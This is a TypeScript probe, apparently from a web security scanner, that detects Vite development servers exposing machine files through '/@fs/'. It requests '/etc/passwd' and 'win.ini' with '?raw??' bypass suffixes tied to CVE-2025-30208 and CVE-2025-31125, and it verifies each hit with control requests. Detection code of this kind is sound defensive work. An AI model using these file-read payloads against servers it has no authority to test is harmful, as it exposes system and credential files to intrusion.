import type { ActiveProbe } from '../../core/evidence/active.ts';
import type { CrawlEvidence } from '../../core/evidence/content.ts';
import { type Exchange, hasResponse } from '../../core/evidence/http.ts';
import type { ProbeContext } from '../../core/probe-context.ts';
import type { SiteProbe } from '../kit/probe-definition.ts';
import { knownFile } from './file-proof.ts';
import { activePathTraversal } from './path-traversal.ts';

/** The client that Vite adds to each page; group 1 is the base path of the application. */
const CLIENT = /<script\b[^>]{0,200}\bsrc=["'](\/[\w./-]{0,100}?)?\/@vite\/client["']/;
const FILES = ['/etc/passwd', '/C:/Windows/win.ini'];
/** Unchanged, where `server.fs.strict` is off; as raw text, which Vite before 6.2.4 did not check (CVE-2025-30208, CVE-2025-31125). */
const QUERIES = ['', '?raw??', '?import&raw??'];
const BYTES_MAX = 64 * 1024;

/** Files of the machine that a development server hands out. */
export const developmentFiles: SiteProbe = {
  checks: [activePathTraversal],
  scanTypes: ['standard', 'compliance'],
  run: probeDevServer,
};

/** Where Vite's development server serves the files of the machine, or null if the site has no such server. */
export function viteFolder({ pages }: CrawlEvidence): string | null {
  const client = pages.map(({ exchange }) => CLIENT.exec(exchange.response.text)).find((match) => match !== null);
  return client === undefined ? null : `${client?.[1] ?? ''}/@fs`;
}

/** Vite's development server serves every file of the machine below `/@fs/`, unless its list of allowed folders is in force. */
async function probeDevServer(context: ProbeContext, crawl: CrawlEvidence): Promise<ActiveProbe[]> {
  const folder = viteFolder(crawl);
  if (folder === null) return [];
  const request = async (path: string): Promise<Exchange | null> => {
    const attempt = await context.fetch({ url: path, maxBytes: BYTES_MAX });
    return hasResponse(attempt) ? attempt : null;
  };
  for (const file of FILES)
    for (const query of QUERIES) {
      const payload = `${folder}${file}${query}`;
      const hit = await request(payload);
      if (hit === null || knownFile(hit.response.text) === null) continue;
      const missing = await request(`${folder}${file.replace(/(?<!\w)\w+(?:\.\w+)?$/, context.token(10))}${query}`);
      const outside = await request(`/${context.token(10)}${file}${query}`);
      if (missing === null || outside === null) return [];
      const url = `${context.target.origin}${folder}`;
      const common = { family: 'path-traversal', method: 'GET', parameter: 'path', payload, marker: '', url } as const;
      return [
        { ...common, step: 'file', exchange: hit },
        { ...common, step: 'missing-file', exchange: missing },
        { ...common, step: 'outside', exchange: outside },
      ];
    }
  return [];
}
